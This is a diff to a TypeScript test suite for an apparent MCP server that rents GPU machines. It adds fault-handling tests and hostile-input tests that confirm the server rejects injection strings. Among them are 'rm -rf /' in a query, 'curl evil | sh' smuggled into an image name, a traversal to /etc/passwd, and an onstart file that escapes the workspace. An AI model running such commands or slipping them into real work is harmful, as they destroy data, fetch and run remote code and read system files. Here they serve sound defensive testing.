@@ -3,7 +3,7 @@
 // onstart), stop, destroy (echo required), the hostile inputs, and no key in its logs.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { TOOLS, toolJsonSchema } from '../../../src/agent/toolCatalogue';
 import { useTestSim } from '../../kit/simPerFile';
@@ -19,7 +19,9 @@ const simInstances = () => listed(started.current);
 async function withMcp(fn: (m: McpRun) => Promise<void>, env?: Record<string, string>): Promise<void> {
   const m = await startMcp(started.current, env ? { env } : {});
   try {
-    await fn(m);
+    await fn(m).catch((e: unknown) => {
+      throw new Error(`${e instanceof Error ? e.message : String(e)}\nserver log:\n${m.stderr().slice(-3000)}`, { cause: e });
+    });
     assert.doesNotMatch(m.stderr(), new RegExp(SIM_KEY), 'the key never reaches the log');
   } finally {
     await m.close();
@@ -68,6 +70,26 @@ test('search, quote, confirm twice at once (one machine, the guard in its onstar
   });
 });
 
+test('faults on the create request (the connection reset after it took effect, a cut-off or an unclear answer): at most one machine per confirmed quote, named or in view', async () => {
+  await withMcp(async (m) => {
+    for (const fault of [{ kind: 'reset' }, { kind: 'truncated' }, { kind: 'refused', msg: 'Refused: not carried out.' }] as const) {
+      await started.current.ctl.reset();
+      await started.current.ctl.fault({ ...fault, path: '/api/v0/asks/', count: 1 });
+      const q = await m.call('rent', { image: 'pytorch/pytorch:latest' });
+      const r = await m.call('rent', { image: 'pytorch/pytorch:latest', quote_id: quoteIdOf(q.text) });
+      const ids = await held(started.current);
+      assert.ok(ids.length <= 1, `${fault.kind}: ${ids.length} machines: ${r.text}`);
+      for (const id of ids) assert.match(r.text, new RegExp(`\\b${id}\\b`), `${fault.kind}: instance ${id} is not named: ${r.text}`);
+      if (fault.kind !== 'refused') assert.equal(ids.length, 1, `${fault.kind}: the create took effect`);
+      else {
+        // A 200 with success: false proves nothing: checked through the list for a minute, which the answer does not wait out.
+        assert.match(r.text, /did not say whether a machine was created; .* Do not rent again/);
+        assert.match((await m.call('list_instances')).text, /rental "agent-\w{4}": sent, not in the list yet/);
+      }
+    }
+  }, { GPU_RENTAL_ANSWER_WITHIN_S: '3' });
+});
+
 test('hostile input: unknown ids, negative or huge numbers, unknown fields and tools, injection strings are clear errors and send nothing', async () => {
   await withMcp(async (m) => {
     const cases: Array<[string, Record<string, unknown>, RegExp]> = [
@@ -77,11 +99,15 @@ test('hostile input: unknown ids, negative or huge numbers, unknown fields and t
       ['search_offers', { limit: 10_000 }, /limit must be at most 50/],
       ['search_offers', { query: 'gpu_name=`rm -rf /`' }, /The query is not valid/],
       ['rent', { image: 'x; curl evil | sh' }, /The image name is not valid/],
-      ['rent', { template: '../../../etc/passwd' }, /not found|must be a \.json file inside the workspace/],
+      ['rent', { template: '../../../etc/passwd' }, /is not a \.json file inside the workspace folder the server runs in/],
       ['rent', { image: 'pytorch/pytorch:latest', quote_id: 'q-doesnotexist' }, /is not a rent quote this server gave/],
       ['rent', { offer_id: 1, image: 'a', extra: '[x](javascript:alert(1))' }, /unknown field\(s\) "extra"/],
       ['no_such_tool', {}, /There is no tool "no_such_tool"/],
     ];
+    // A template whose onstartFile points outside the workspace: that file is never read (nor sent as a start script).
+    writeFileSync(join(m.dir, 'home/secret.sh'), 'echo private');
+    writeFileSync(join(m.dir, 'workspace/.gpu/escape.json'), JSON.stringify({ name: 'escape', instance: { image: 'pytorch/pytorch:latest', onstartFile: '../home/secret.sh' } }));
+    cases.push(['rent', { template: '.gpu/escape.json' }, /Template \.gpu\/escape\.json has 1 problem\(s\) \(first: instance\.onstartFile: .*\)\. Nothing was rented/]);
     for (const [name, args, want] of cases) {
       const r = await m.call(name, args);
       assert.equal(r.isError, true, `${name} ${JSON.stringify(args)}: ${r.text}`);
